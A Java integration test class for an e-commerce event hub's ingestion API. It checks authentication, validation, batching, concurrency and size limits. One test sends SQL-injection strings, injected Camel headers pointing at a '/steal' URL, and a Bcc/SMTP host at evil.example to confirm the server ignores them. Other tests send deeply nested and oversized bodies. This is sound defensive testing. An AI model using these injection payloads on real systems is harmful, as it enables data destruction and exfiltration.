package com.ecommerce.eventhub.ingestion;

import java.lang.management.ManagementFactory;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Flow;
import java.util.concurrent.Future;

import com.ecommerce.eventhub.envelope.EnvelopeJson;
import com.ecommerce.eventhub.support.HubHttp;
import com.ecommerce.eventhub.support.HubIntegrationTest;
import com.ecommerce.eventhub.support.OutboxFixtures;
import com.ecommerce.eventhub.support.QueueRecorder;
import com.ecommerce.eventhub.support.TestTopology;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.camel.CamelContext;
import org.apache.camel.spi.RestRegistry;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.yaml.snakeyaml.Yaml;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.actuate.observability.AutoConfigureObservability;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * {@code POST /api/v1/events} and {@code GET /api/v1/events/{id}} over real HTTP, against
 * the real PostgreSQL and RabbitMQ: storing, publishing, every refusal, batches,
 * concurrency, limits and injection attempts.
 */
@HubIntegrationTest(properties = { "hub.security.api-keys[0].name=erp",
		"hub.security.api-keys[0].key=" + IngestionIT.ERP_KEY,
		"hub.security.api-keys[0].event-types=order.status-changed,order.shipped", "hub.security.api-keys[1].name=cms",
		"hub.security.api-keys[1].key=" + IngestionIT.CMS_KEY, "hub.security.api-keys[1].event-types=landing-cms.*" })
@AutoConfigureObservability(tracing = false)
class IngestionIT {

	static final String ERP_KEY = "erp-key-abcdefghijklmnop";

	static final String CMS_KEY = "cms-key-abcdefghijklmnop";

	static final TestTopology topology = TestTopology.of(IngestionIT.class);

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	CamelContext camel;

	HubHttp http;

	@BeforeEach
	void client() {
		this.http = new HubHttp(this.port);
	}

	@Test
	void aValidStatusChangeIsStoredPublishedAndItsStatusMovesToPublished() throws Exception {
		ObjectNode event = statusChanged();
		event.remove("eventId");
		event.remove("metadata");
		try (QueueRecorder recorder = QueueRecorder.consume(topology.queue("order.events"))) {
			HttpResponse<String> response = this.http.send("/api/v1/events",
					r -> r.header("Authorization", "Bearer " + ERP_KEY)
						.header("Content-Type", "application/json")
						.POST(HttpRequest.BodyPublishers.ofString(event.toString())));

			assertThat(response.statusCode()).isEqualTo(202);
			JsonNode accepted = HubHttp.json(response).get("accepted").get(0);
			String eventId = accepted.get("eventId").asText();
			assertThat(UUID.fromString(eventId)).as("generated eventId").isNotNull();
			assertThat(accepted.get("status").asText()).isEqualTo("PENDING");
			String location = response.headers().firstValue("Location").orElseThrow();
			assertThat(location).isEqualTo("/api/v1/events/" + eventId);

			await().atMost(Duration.ofSeconds(10)).until(() -> !recorder.receivedOf(List.of(eventId)).isEmpty());
			JsonNode published = recorder.receivedOf(List.of(eventId)).get(0).json();
			assertThat(published.at("/metadata/source").asText()).as("source defaults to the caller").isEqualTo("erp");
			assertThat(published.get("payload")).isEqualTo(event.get("payload"));

			await().atMost(Duration.ofSeconds(10))
				.until(() -> HubHttp.json(this.http.get(location, ERP_KEY)).get("status").asText().equals("PUBLISHED"));
			JsonNode status = HubHttp.json(this.http.get(location, ERP_KEY));
			assertThat(status.get("publishedAt").asText()).isNotBlank();
			assertThat(status.get("attempts").asInt()).isEqualTo(1);
			assertThat(status.get("eventType").asText()).isEqualTo("order.status-changed");
		}
	}

	@Test
	void everyRefusalAnswersItsStatusWithAProblemAndStoresNothing() throws Exception {
		long before = rows();
		ObjectNode invalid = statusChanged();
		((ObjectNode) invalid.get("payload")).remove("newStatus");
		((ObjectNode) invalid.get("payload")).put("previousStatus", "lost");

		assertProblem(post(null, "application/json", statusChanged().toString()), 401);
		assertProblem(post("not-a-key-0123456789", "application/json", statusChanged().toString()), 401);
		assertProblem(post(ERP_KEY, "application/json", OutboxFixtures.example("product.created").toString()), 403);
		assertProblem(post(ERP_KEY, "text/plain", statusChanged().toString()), 415);
		assertProblem(post(ERP_KEY, null, statusChanged().toString()), 415);
		assertProblem(post(ERP_KEY, "application/json", "{\"eventType\": "), 400);
		assertProblem(post(ERP_KEY, "application/json", "[]"), 400);
		assertProblem(post(ERP_KEY, "application/json", "\"just a string\""), 400);

		HttpResponse<String> response = post(ERP_KEY, "application/json", invalid.toString());
		assertProblem(response, 400);
		assertThat(HubHttp.json(response).get("violations")).extracting(v -> v.get("pointer").asText())
			.contains("/payload/newStatus", "/payload/previousStatus");

		ObjectNode original = statusChanged();
		assertThat(post(ERP_KEY, "application/json", original.toString()).statusCode()).isEqualTo(202);
		ObjectNode changed = original.deepCopy();
		((ObjectNode) changed.get("payload")).put("newStatus", "shipped");
		assertProblem(post(ERP_KEY, "application/json", changed.toString()), 409);

		assertThat(rows()).isEqualTo(before + 1);
	}

	@Test
	void theSameEventPostedAgainIsStoredOnceAndAnswered200WithItsStatus() throws Exception {
		ObjectNode event = statusChanged();
		assertThat(post(ERP_KEY, "application/json", event.toString()).statusCode()).isEqualTo(202);
		HttpResponse<String> again = post(ERP_KEY, "application/json", event.toString());
		assertThat(again.statusCode()).isEqualTo(200);
		assertThat(HubHttp.json(again).at("/accepted/0/eventId").asText()).isEqualTo(event.get("eventId").asText());
		assertThat(rowsOf(event.get("eventId").asText())).isEqualTo(1);
	}

	@Test
	void aBatchWithOneBadEnvelopeStoresNoneAndAValidBatchOf500Stores500() throws Exception {
		long before = rows();
		ArrayNode mixed = EnvelopeJson.mapper().createArrayNode();
		for (int i = 0; i < 5; i++) {
			mixed.add(statusChanged());
		}
		((ObjectNode) mixed.get(3).get("payload")).remove("orderNumber");
		HttpResponse<String> refused = post(ERP_KEY, "application/json", mixed.toString());
		assertProblem(refused, 400);
		JsonNode violation = HubHttp.json(refused).get("violations").get(0);
		assertThat(violation.get("index").asInt()).isEqualTo(3);
		assertThat(violation.get("pointer").asText()).isEqualTo("/3/payload/orderNumber");
		assertThat(rows()).isEqualTo(before);

		ArrayNode batch = EnvelopeJson.mapper().createArrayNode();
		for (int i = 0; i < 500; i++) {
			batch.add(statusChanged());
		}
		HttpResponse<String> accepted = post(ERP_KEY, "application/json", batch.toString());
		assertThat(accepted.statusCode()).isEqualTo(202);
		assertThat(HubHttp.json(accepted).get("accepted")).hasSize(500);
		assertThat(rows()).isEqualTo(before + 500);

		ArrayNode tooMany = batch.deepCopy();
		tooMany.add(statusChanged());
		assertProblem(post(ERP_KEY, "application/json", tooMany.toString()), 400);
	}

	@Test
	void fiftyConcurrentPostsOfOneEventIdStoreExactlyOneRow() throws Exception {
		ObjectNode event = statusChanged();
		ExecutorService pool = Executors.newFixedThreadPool(16);
		try {
			List<Callable<Integer>> posts = new ArrayList<>();
			for (int i = 0; i < 50; i++) {
				posts.add(() -> post(ERP_KEY, "application/json", event.toString()).statusCode());
			}
			List<Integer> statuses = new ArrayList<>();
			for (Future<Integer> status : pool.invokeAll(posts)) {
				statuses.add(status.get());
			}
			assertThat(statuses).containsOnly(200, 202);
			assertThat(statuses).filteredOn(s -> s == 202).hasSize(1);
		}
		finally {
			pool.shutdownNow();
		}
		assertThat(rowsOf(event.get("eventId").asText())).isEqualTo(1);
	}

	@Test
	void aTenMebibyteBodyIsRefusedWithoutBeingBuffered() throws Exception {
		long before = rows();
		byte[] huge = new byte[10 * 1024 * 1024];
		java.util.Arrays.fill(huge, (byte) ' ');
		long heapBefore = usedHeapAfterGc();

		HttpResponse<String> declared = this.http.send("/api/v1/events",
				r -> r.header("X-API-Key", ERP_KEY)
					.header("Content-Type", "application/json")
					.POST(HttpRequest.BodyPublishers.ofByteArray(huge)));
		assertProblem(declared, 413);

		// Without a Content-Length (chunked), it is read up to the limit and refused
		// there.
		HttpResponse<String> chunked = this.http.send("/api/v1/events",
				r -> r.header("X-API-Key", ERP_KEY).header("Content-Type", "application/json").POST(unsizedBody(huge)));
		assertProblem(chunked, 413);

		// What the hub keeps, not what is still in flight: the lowest of a few readings
		// (a fresh-clone CI run once read 10.6 MB right after the answers, while the
		// client may still have been writing the chunked body).
		long growth = Long.MAX_VALUE;
		for (int reading = 0; reading < 5 && growth >= 5L * 1024 * 1024; reading++) {
			Thread.sleep((reading == 0) ? 0 : 200);
			growth = Math.min(growth, usedHeapAfterGc() - heapBefore);
		}
		assertThat(growth).as("heap growth in bytes").isLessThan(5L * 1024 * 1024);
		assertThat(rows()).isEqualTo(before);
		assertThat(this.http.get("/actuator/health/liveness", null).statusCode()).isEqualTo(200);
	}

	@Test
	void deepNestingAndHugeNumbersAreRefusedQuicklyAndTheHubStaysHealthy() throws Exception {
		String deep = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
		ObjectNode event = statusChanged();
		String hugeNumber = event.toString()
			.replace("\"payload\":{", "\"payload\":{\"n\":" + "9".repeat(1_000_000) + ",");
		long before = rows();

		HttpResponse<String> nested = post(ERP_KEY, "application/json", deep);
		assertProblem(nested, 400);
		assertThat(nested.body()).doesNotContain("at com.").doesNotContain("at org.");
		HttpResponse<String> number = post(ERP_KEY, "application/json", hugeNumber);
		assertProblem(number, 400);
		assertThat(number.body()).doesNotContain("at com.").doesNotContain("at org.");

		assertThat(rows()).isEqualTo(before);
		assertThat(this.http.get("/actuator/health/liveness", null).statusCode()).isEqualTo(200);
		assertThat(post(ERP_KEY, "application/json", statusChanged().toString()).statusCode()).isEqualTo(202);
	}

	@Test
	void sqlInValuesIsStoredVerbatimAndInjectedHeadersChangeNothing() throws Exception {
		ObjectNode event = statusChanged();
		String sql = "'; DROP TABLE outbox_event; --";
		((ObjectNode) event.get("payload")).put("updatedBy", sql);
		event.put("aggregateId", "x'); DELETE FROM outbox_event; --");
		HttpResponse<String> response = this.http.send("/api/v1/events",
				r -> r.header("X-API-Key", ERP_KEY)
					.header("Content-Type", "application/json")
					.header("CamelSqlQuery", "DELETE FROM outbox_event")
					.header("CamelHttpUri", "http://127.0.0.1:1/steal")
					.header("Bcc", "attacker@evil.example")
					.header("mail.smtp.host", "evil.example")
					.POST(HttpRequest.BodyPublishers.ofString(event.toString())));
		assertThat(response.statusCode()).isEqualTo(202);

		Map<String, Object> row = this.jdbc.queryForMap(
				"SELECT aggregate_id, payload->>'updatedBy' AS updated_by FROM outbox_event WHERE event_id = ?::uuid",
				event.get("eventId").asText());
		assertThat(row.get("updated_by")).isEqualTo(sql);
		assertThat(row.get("aggregate_id")).isEqualTo("x'); DELETE FROM outbox_event; --");
		assertThat(rows()).isPositive();

		ObjectNode injectedType = statusChanged();
		injectedType.put("eventType", "order.status-changed'; DROP TABLE outbox_event; --");
		assertThat(post(ERP_KEY, "application/json", injectedType.toString()).statusCode()).isIn(400, 403);
		assertThat(rows()).isPositive();
	}

	@Test
	void pathVariantsDoNotGetPastTheKeyCheckOrTheLimits() throws Exception {
		for (String path : List.of("/api;x/v1/events", "/%61pi/v1/events", "/api/v1/events;x", "/api/v1/%65vents")) {
			HttpResponse<String> anonymous = this.http.send(path, r -> r.header("Content-Type", "application/json")
				.POST(HttpRequest.BodyPublishers.ofString(statusChanged().toString())));
			assertThat(anonymous.statusCode()).as("no key: " + path).isIn(400, 401, 404);
			assertThat(anonymous.statusCode()).as("no key: " + path).isNotEqualTo(202);
		}
		for (String path : List.of("/api;x/v1/dead-letters", "/%61pi/v1/dead-letters", "/api/v1/dead%2Dletters",
				"/api/v1/route%73", "/API/v1/routes")) {
			HttpResponse<String> erp = this.http.get(path, ERP_KEY);
			assertThat(erp.statusCode()).as("non-admin key: " + path).isIn(400, 403, 404);
			assertThat(this.http.get(path, null).statusCode()).as("no key: " + path).isIn(400, 401, 404);
		}
		HttpResponse<String> textWithPathParameter = this.http.send("/api/v1/events;x",
				r -> r.header("X-API-Key", ERP_KEY)
					.header("Content-Type", "text/plain")
					.POST(HttpRequest.BodyPublishers.ofString(statusChanged().toString())));
		assertThat(textWithPathParameter.statusCode()).isIn(404, 415);
	}

	@Test
	void theIngestionCounterRecordsTheAnswersStatus() throws Exception {
		post(ERP_KEY, "application/json", statusChanged().toString());
		post(ERP_KEY, "text/plain", "x");
		String scrape = this.http.get("/actuator/prometheus", null).body();
		assertThat(scrape).containsPattern("eventhub_ingestion_requests_total\\{[^}]*status=\"202\"");
		assertThat(scrape).containsPattern("eventhub_ingestion_requests_total\\{[^}]*status=\"415\"");
	}

	@Test
	void theStatusOfAnUnknownOrForeignEventIsNotFound() throws Exception {
		assertProblem(this.http.get("/api/v1/events/" + UUID.randomUUID(), ERP_KEY), 404);
		assertProblem(this.http.get("/api/v1/events/not-a-uuid", ERP_KEY), 404);
		ObjectNode event = statusChanged();
		post(ERP_KEY, "application/json", event.toString());
		assertProblem(this.http.get("/api/v1/events/" + event.get("eventId").asText(), CMS_KEY), 404);
		assertProblem(this.http.get("/api/v1/events/" + event.get("eventId").asText(), null), 401);
	}

	@Test
	void onlyHealthInfoAndPrometheusAreReachableWithoutCredentials() throws Exception {
		for (String open : List.of("/actuator/health", "/actuator/health/readiness", "/actuator/info",
				"/actuator/prometheus", "/openapi.yaml")) {
			assertThat(this.http.get(open, null).statusCode()).as(open).isEqualTo(200);
		}
		for (String closed : List.of("/actuator/env", "/actuator/beans", "/actuator/configprops", "/actuator/loggers",
				"/actuator/heapdump", "/actuator/threaddump", "/actuator/mappings", "/actuator/shutdown")) {
			assertThat(this.http.get(closed, null).statusCode()).as(closed).isIn(401, 404, 405);
		}
	}

	@Test
	void theOpenApiDocumentDescribesExactlyTheServedRestEndpoints() throws Exception {
		HttpResponse<String> document = this.http.get("/openapi.yaml", null);
		Map<String, Map<String, Object>> paths = new Yaml()
			.<Map<String, Map<String, Map<String, Object>>>>load(document.body())
			.get("paths");
		Set<String> documented = new HashSet<>();
		paths.forEach((path, methods) -> methods.keySet()
			.forEach(method -> documented.add(method.toUpperCase() + " " + path)));

		Set<String> served = new HashSet<>();
		for (RestRegistry.RestService service : this.camel.getRestRegistry().listAllRestServices()) {
			String template = (service.getUriTemplate() != null) ? service.getUriTemplate() : "";
			served.add(service.getMethod().toUpperCase() + " " + service.getBasePath() + template);
		}
		assertThat(documented).isEqualTo(served);
	}

	private HttpResponse<String> post(String apiKey, String contentType, String body) throws Exception {
		return this.http.send("/api/v1/events", r -> {
			if (apiKey != null) {
				r.header("X-API-Key", apiKey);
			}
			if (contentType != null) {
				r.header("Content-Type", contentType);
			}
			r.POST(HttpRequest.BodyPublishers.ofString(body));
		});
	}

	private static void assertProblem(HttpResponse<String> response, int status) throws Exception {
		assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
		assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
		JsonNode problem = HubHttp.json(response);
		assertThat(problem.get("status").asInt()).isEqualTo(status);
		assertThat(problem.get("title").asText()).isNotBlank();
	}

	private static ObjectNode statusChanged() {
		return OutboxFixtures.example("order.status-changed");
	}

	private long rows() {
		return this.jdbc.queryForObject("SELECT count(*) FROM outbox_event", Long.class);
	}

	private long rowsOf(String eventId) {
		return this.jdbc.queryForObject("SELECT count(*) FROM outbox_event WHERE event_id = ?::uuid", Long.class,
				eventId);
	}

	private static long usedHeapAfterGc() {
		for (int i = 0; i < 3; i++) {
			System.gc();
		}
		return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
	}

	/** A body publisher without a known length, so the client sends it chunked. */
	private static HttpRequest.BodyPublisher unsizedBody(byte[] bytes) {
		HttpRequest.BodyPublisher sized = HttpRequest.BodyPublishers.ofByteArray(bytes);
		return new HttpRequest.BodyPublisher() {
			@Override
			public long contentLength() {
				return -1;
			}

			@Override
			public void subscribe(Flow.Subscriber<? super ByteBuffer> subscriber) {
				sized.subscribe(subscriber);
			}
		};
	}

}
